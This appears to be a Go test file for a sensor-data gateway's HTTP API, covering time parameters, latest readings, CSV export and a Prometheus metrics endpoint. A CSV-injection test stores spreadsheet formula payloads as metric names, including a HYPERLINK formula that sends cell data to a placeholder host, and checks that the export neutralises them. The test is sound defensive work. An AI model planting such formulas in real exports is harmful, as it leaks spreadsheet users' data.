package httpapi

import (
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"net/url"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cairn-gateway/cairn/buffer"
)

// Times from now, in every parameter that takes a time; to is now and
// stats' from 24 hours before to unless told. A time that is none is a
// 400 naming the parameter and the value.
func TestAPI_TimesFromNow(t *testing.T) {
	a := newTestAPI(t)
	now := time.Now()
	at := func(d time.Duration) int64 { return now.Add(-d).UnixNano() }
	a.store(t,
		buffer.Reading{Device: "kitchen", Metric: "t", TS: at(30 * time.Hour), Value: 1},
		buffer.Reading{Device: "kitchen", Metric: "t", TS: at(2 * time.Hour), Value: 2},
		buffer.Reading{Device: "kitchen", Metric: "t", TS: at(30 * time.Minute), Value: 3},
		buffer.Reading{Device: "kitchen", Metric: "t", TS: at(time.Minute), Value: 4},
	)
	readings := []struct {
		query string
		want  []float64 // newest first
	}{
		{"", []float64{4, 3, 2, 1}},
		{"from=-1h", []float64{4, 3}},
		{"from=-90m&to=-10m", []float64{3}},
		{"from=now-24h&to=now", []float64{4, 3, 2}},
		{"from=-2d&to=-1d", []float64{1}},
		{"from=-1w&to=now-1h30m", []float64{2, 1}},
		{"to=-1h", []float64{2, 1}},
		{"from=now", nil},
	}
	for _, tt := range readings {
		var rd readingsDoc
		if code := a.get(t, "/v1/devices/kitchen/readings?"+tt.query, &rd); code != http.StatusOK {
			t.Errorf("readings?%s: %d", tt.query, code)
			continue
		}
		var got []float64
		for _, r := range rd.Readings {
			got = append(got, r.Value)
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("readings?%s: got %v, want %v", tt.query, got, tt.want)
		}
	}
	stats := []struct {
		query string
		want  uint64 // readings counted
	}{
		{"", 3}, // the last 24 hours
		{"from=-1h", 2},
		{"to=-1h", 1},                  // from 25 hours ago to 1 hour ago
		{"from=-2d&to=now-90m", 2},     // 30 h and 2 h ago
		{"from=0&to=now", 4},           // Unix seconds as before
		{"from=-3h&group=hour", 3},     // summed over the hours below
		{"from=now-45m&to=now-15m", 1}, // 30 minutes ago
		{"from=-1h&to=now%2B1h", 2},    // now+1h
		{"from=-1d&to=2262-04-11T00:00:00Z", 3},
	}
	for _, tt := range stats {
		var st struct {
			Stats []struct {
				Count uint64 `json:"count"`
			} `json:"stats"`
		}
		if code := a.get(t, "/v1/devices/kitchen/stats?metric=t&"+tt.query, &st); code != http.StatusOK {
			t.Errorf("stats?%s: %d", tt.query, code)
			continue
		}
		var n uint64
		for _, g := range st.Stats {
			n += g.Count
		}
		if n != tt.want {
			t.Errorf("stats?%s: counted %d, want %d", tt.query, n, tt.want)
		}
	}
	bad := []struct {
		path, want string
	}{
		{"readings?from=-1x", `from: "-1x": want RFC 3339`},
		{"readings?from=now%2B", `from: "now+": want RFC 3339`},
		{"readings?to=yesterday", `to: "yesterday": want RFC 3339`},
		{"stats?metric=t&from=-1x", `from: "-1x": want RFC 3339`},
		{"stats?metric=t&from=now%2B", `from: "now+": want RFC 3339`},
		{"stats?metric=t&to=yesterday", `to: "yesterday": want RFC 3339`},
		{"stats?metric=t&from=-1h&to=-2h", "from (-1h) must be before to (-2h)"},
		{"stats?metric=t&from=now", "from (now) must be before to (now)"},
		{"stats?metric=t&from=-1w&group=minute", "group: more than 10000 minutes from -1w to now"},
		{"readings?from=-1h&to=-2h", "from (-1h) is after to (-2h)"},
	}
	for _, tt := range bad {
		var e struct{ Error string }
		code := a.get(t, "/v1/devices/kitchen/"+tt.path, &e)
		if code != http.StatusBadRequest || !strings.Contains(e.Error, tt.want) {
			t.Errorf("%s: got %d %q, want 400 with %q", tt.path, code, e.Error, tt.want)
		}
	}
}

type latestDoc struct {
	Device string `json:"device"`
	Latest map[string]struct {
		TS    string  `json:"ts"`
		Value float64 `json:"value"`
		Unit  *string `json:"unit"`
	} `json:"latest"`
}

// /v1/devices/{device}/latest and /v1/devices say the newest reading of
// every metric, its time and its unit; a newer reading replaces it, an
// older one that comes late does not.
func TestAPI_Latest(t *testing.T) {
	a := newTestAPI(t)
	t0 := time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)
	ts := func(s int) int64 { return t0.Add(time.Duration(s) * time.Second).UnixNano() }
	a.store(t,
		buffer.Reading{Device: "kitchen/door", Metric: "t", TS: ts(0), Value: 20, Unit: "°C"},
		buffer.Reading{Device: "kitchen/door", Metric: "t", TS: ts(10), Value: 21.5, Unit: "°C"},
		buffer.Reading{Device: "kitchen/door", Metric: "open", TS: ts(5), Value: 1},
		buffer.Reading{Device: "cellar", Metric: "h", TS: ts(3), Value: 80, Unit: "%"},
	)
	type metric struct {
		ts    string
		value float64
		unit  string
	}
	check := func(want map[string]metric) {
		t.Helper()
		var doc latestDoc
		if code := a.get(t, "/v1/devices/kitchen%2Fdoor/latest", &doc); code != http.StatusOK || doc.Device != "kitchen/door" {
			t.Fatalf("latest: %d %+v", code, doc)
		}
		got := make(map[string]metric)
		for m, l := range doc.Latest {
			u := ""
			if l.Unit != nil {
				u = *l.Unit
			}
			got[m] = metric{l.TS, l.Value, u}
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("latest: got %+v, want %+v", got, want)
		}
	}
	check(map[string]metric{
		"t":    {"2026-03-14T09:27:03Z", 21.5, "°C"},
		"open": {"2026-03-14T09:26:58Z", 1, ""},
	})
	a.store(t,
		buffer.Reading{Device: "kitchen/door", Metric: "t", TS: ts(-60), Value: 5, Unit: "°C"},
		buffer.Reading{Device: "kitchen/door", Metric: "open", TS: ts(20), Value: 0},
	)
	check(map[string]metric{
		"t":    {"2026-03-14T09:27:03Z", 21.5, "°C"},
		"open": {"2026-03-14T09:27:13Z", 0, ""},
	})

	var devs struct {
		Devices []struct {
			Device string                `json:"device"`
			Latest map[string]latestJSON `json:"latest"`
		} `json:"devices"`
	}
	if code := a.get(t, "/v1/devices", &devs); code != http.StatusOK || len(devs.Devices) != 2 {
		t.Fatalf("devices: %d %+v", code, devs)
	}
	want := []map[string]latestJSON{
		{"h": {TS: "2026-03-14T09:26:56Z", Value: 80, Unit: "%"}},
		{"t": {TS: "2026-03-14T09:27:03Z", Value: 21.5, Unit: "°C"}, "open": {TS: "2026-03-14T09:27:13Z", Value: 0}},
	}
	for i, d := range devs.Devices {
		if !reflect.DeepEqual(d.Latest, want[i]) {
			t.Errorf("devices: %s: latest %+v, want %+v", d.Device, d.Latest, want[i])
		}
	}
	// Pages of one device each.
	devs.Devices = nil
	if code := a.get(t, "/v1/devices?limit=1&after=cellar", &devs); code != http.StatusOK || len(devs.Devices) != 1 ||
		!reflect.DeepEqual(devs.Devices[0].Latest, want[1]) {
		t.Errorf("devices after cellar: %d %+v", code, devs)
	}

	var e struct{ Error string }
	if code := a.get(t, "/v1/devices/attic/latest", &e); code != http.StatusNotFound {
		t.Errorf("latest of an unknown device: %d %q, want 404", code, e.Error)
	}
	if code := a.get(t, "/v1/devices/a%01b/latest", &e); code != http.StatusBadRequest {
		t.Errorf("latest of a bad device id: %d %q, want 400", code, e.Error)
	}
}

// CSV for readings and stats, asked by format=csv or Accept: text/csv,
// reads back with encoding/csv; JSON stays the default.
func TestAPI_CSV(t *testing.T) {
	a := newTestAPI(t)
	t0 := time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)
	a.store(t,
		buffer.Reading{Device: "kitchen/door", Metric: "t", TS: t0.UnixNano(), Value: 20, Unit: "°C"},
		buffer.Reading{Device: "kitchen/door", Metric: "t", TS: t0.Add(90 * time.Second).UnixNano(), Value: 21.25, Unit: "°C"},
		buffer.Reading{Device: "kitchen/door", Metric: "n", TS: t0.Add(time.Second).UnixNano(), Value: 1e-9},
	)
	read := func(rec *http.Response, body string, filename string) [][]string {
		t.Helper()
		if rec.StatusCode != http.StatusOK {
			t.Fatalf("%d %s", rec.StatusCode, body)
		}
		if ct := rec.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
		}
		if cd, want := rec.Header.Get("Content-Disposition"), `attachment; filename="`+filename+`"`; cd != want {
			t.Errorf("Content-Disposition %q, want %q", cd, want)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%v: %s", err, body)
		}
		return rows
	}
	from := url.QueryEscape(t0.Format(time.RFC3339))
	to := url.QueryEscape(t0.Add(time.Hour).Format(time.RFC3339))

	wantT := [][]string{
		{"time", "metric", "value", "unit"},
		{"2026-03-14T09:00:00Z", "t", "20", "°C"},
		{"2026-03-14T09:01:30Z", "t", "21.25", "°C"},
	}
	for _, how := range []struct{ query, accept string }{
		{"&format=csv", ""},
		{"", "text/csv"},
		{"", "application/json;q=0.5, text/csv"},
		{"&format=csv", "application/json"},
	} {
		rec := a.request("/v1/devices/kitchen%2Fdoor/readings?metric=t&order=asc"+how.query, "Accept", how.accept)
		if got := read(rec.Result(), rec.Body.String(), "kitchen_door-t.csv"); !reflect.DeepEqual(got, wantT) {
			t.Errorf("readings (%+v): got %q, want %q", how, got, wantT)
		}
	}
	rec := a.request("/v1/devices/kitchen%2Fdoor/readings?format=csv&from=" + from)
	wantAll := [][]string{
		{"time", "metric", "value", "unit"},
		{"2026-03-14T09:01:30Z", "t", "21.25", "°C"},
		{"2026-03-14T09:00:01Z", "n", "1e-09", ""},
		{"2026-03-14T09:00:00Z", "t", "20", "°C"},
	}
	if got := read(rec.Result(), rec.Body.String(), "kitchen_door.csv"); !reflect.DeepEqual(got, wantAll) {
		t.Errorf("readings of every metric: got %q, want %q", got, wantAll)
	}

	wantStats := [][]string{
		{"start", "count", "sum", "min", "max", "sumsqr", "mean", "stddev", "unit"},
		{"2026-03-14T09:00:00Z", "1", "20", "20", "20", "400", "20", "0", "°C"},
		{"2026-03-14T09:01:00Z", "1", "21.25", "21.25", "21.25", "451.5625", "21.25", "0", "°C"},
	}
	rec = a.request("/v1/devices/kitchen%2Fdoor/stats?metric=t&group=minute&from="+from+"&to="+to, "Accept", "text/csv")
	if got := read(rec.Result(), rec.Body.String(), "kitchen_door-t.csv"); !reflect.DeepEqual(got, wantStats) {
		t.Errorf("stats: got %q, want %q", got, wantStats)
	}

	// JSON unless CSV is asked for.
	for _, accept := range []string{"", "application/json", "text/html,application/xhtml+xml,*/*;q=0.8", "text/csv;q=0, */*", "application/json, text/csv"} {
		rec := a.request("/v1/devices/kitchen%2Fdoor/readings", "Accept", accept)
		if ct := rec.Header().Get("Content-Type"); rec.Code != http.StatusOK || ct != "application/json" {
			t.Errorf("Accept %q: %d %q, want JSON", accept, rec.Code, ct)
		}
	}
	var e struct{ Error string }
	for _, path := range []string{"readings?format=xml", "stats?metric=t&format=CSV"} {
		if code := a.get(t, "/v1/devices/kitchen%2Fdoor/"+path, &e); code != http.StatusBadRequest || !strings.Contains(e.Error, "format: must be json or csv") {
			t.Errorf("%s: %d %q, want 400", path, code, e.Error)
		}
	}
}

// A text cell of the CSV (a metric name, a unit) that a spreadsheet
// would take for a formula is neutralised as OWASP's CSV Injection page
// has it: a single quote in front, the cell quoted; a negative value
// stays a number, and the other text cells read back as they are.
func TestAPI_CSVInjection(t *testing.T) {
	a := newTestAPI(t)
	t0 := time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)
	metrics := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, "+1+2", "-2+3", "@SUM(A1:A9)", "a;=1+1", "t"}
	for i, m := range metrics {
		a.store(t, buffer.Reading{Device: "lab", Metric: m, TS: t0.Add(time.Duration(i) * time.Second).UnixNano(), Value: -3.5, Unit: "=1+" + strconv.Itoa(i)})
	}
	from := url.QueryEscape(t0.Format(time.RFC3339))
	rec := a.request("/v1/devices/lab/readings?format=csv&order=asc&from=" + from)
	if rec.Code != http.StatusOK {
		t.Fatalf("readings: %d %s", rec.Code, rec.Body)
	}
	body := rec.Body.String()
	for _, line := range []string{
		`2026-03-14T09:00:00Z,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",-3.5,"'=1+0"`,
		`2026-03-14T09:00:01Z,"'+1+2",-3.5,"'=1+1"`,
		`2026-03-14T09:00:02Z,"'-2+3",-3.5,"'=1+2"`,
		`2026-03-14T09:00:03Z,"'@SUM(A1:A9)",-3.5,"'=1+3"`,
		`2026-03-14T09:00:04Z,"a;=1+1",-3.5,"'=1+4"`,
		`2026-03-14T09:00:05Z,"t",-3.5,"'=1+5"`,
	} {
		if !strings.Contains(body, "\n"+line+"\n") {
			t.Errorf("readings CSV: no line %s in\n%s", line, body)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	for i, row := range rows[1:] {
		if want := csvText(metrics[i]); row[1] != want {
			t.Errorf("row %d: metric %q, want %q", i+1, row[1], want)
		}
		if v, err := strconv.ParseFloat(row[2], 64); err != nil || v != -3.5 {
			t.Errorf("row %d: value %q, want the number -3.5", i+1, row[2])
		}
	}

	rec = a.request("/v1/devices/lab/stats?format=csv&metric=t&from=" + from)
	if want := "\n" + `2026-03-14T09:00:00Z,1,-3.5,-3.5,-3.5,12.25,-3.5,0,"'=1+5"` + "\n"; !strings.Contains(rec.Body.String(), want) {
		t.Errorf("stats CSV: want the line %q in\n%s", want, rec.Body)
	}
}

// csvText neutralises what OWASP lists, and only that.
func TestCSVText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"", ""}, {"temperature", "temperature"}, {"°C", "°C"}, {"a=b", "a=b"}, {"'=1", "'=1"}, {" =1", " =1"},
	} {
		if got := csvText(c.in); got != c.want {
			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// http.metrics_readings: /metrics carries the newest reading of each
// series as cairn_reading, never more of them than the limit on series,
// and none without it.
func TestAPI_MetricsReadings(t *testing.T) {
	dir := t.TempDir()
	t0 := time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC).UnixNano()
	{
		// Three series, stored before the limit was lowered to two.
		s, err := buffer.Open(buffer.Options{Dir: dir})
		if err != nil {
			t.Fatal(err)
		}
		w := buffer.NewWriter(s, buffer.WriterOptions{})
		ctx, cancel := context.WithCancel(context.Background())
		done := make(chan error, 1)
		go func() { done <- w.Run(ctx) }()
		(&testAPI{w: w}).store(t,
			buffer.Reading{Device: "kitchen", Metric: "t", TS: t0, Value: 20, Unit: "°C"},
			buffer.Reading{Device: "kitchen", Metric: "t", TS: t0 + 1, Value: 21.5, Unit: "°C"},
			buffer.Reading{Device: "cellar", Metric: "h", TS: t0, Value: 80, Unit: "%"},
			buffer.Reading{Device: "kitchen", Metric: "n", TS: t0, Value: -3},
		)
		cancel()
		if err := errors.Join(<-done, s.Close()); err != nil {
			t.Fatal(err)
		}
	}
	scrape := func(a *testAPI) []string {
		t.Helper()
		rec := a.request("/metrics")
		if rec.Code != http.StatusOK {
			t.Fatalf("/metrics: %d %s", rec.Code, rec.Body)
		}
		var out []string
		for _, line := range strings.Split(rec.Body.String(), "\n") {
			if strings.HasPrefix(line, "cairn_reading{") {
				out = append(out, line)
			}
		}
		return out
	}
	a := newTestAPIWith(t, testAPIOptions{dir: dir, writer: buffer.WriterOptions{MaxSeries: 2}, metricsReadings: true})
	want := []string{
		`cairn_reading{device="cellar",metric="h",unit="%"} 80`,
		`cairn_reading{device="kitchen",metric="n",unit=""} -3`,
	}
	if got := scrape(a); !reflect.DeepEqual(got, want) {
		t.Errorf("limit 2: got %q, want %q", got, want)
	}

	b := newTestAPIWith(t, testAPIOptions{metricsReadings: true})
	b.store(t, buffer.Reading{Device: "d", Metric: "m", TS: t0, Value: 1.5, Unit: "kWh"})
	if got, want := scrape(b), []string{`cairn_reading{device="d",metric="m",unit="kWh"} 1.5`}; !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	b.store(t, buffer.Reading{Device: "d", Metric: "m", TS: t0 + int64(time.Minute), Value: 2})
	if got, want := scrape(b), []string{`cairn_reading{device="d",metric="m",unit="kWh"} 2`}; !reflect.DeepEqual(got, want) {
		t.Errorf("after a newer reading: got %q, want %q", got, want)
	}

	c := newTestAPI(t)
	c.store(t, buffer.Reading{Device: "d", Metric: "m", TS: t0, Value: 1})
	if got := scrape(c); got != nil {
		t.Errorf("without metrics_readings: got %q, want none", got)
	}
}
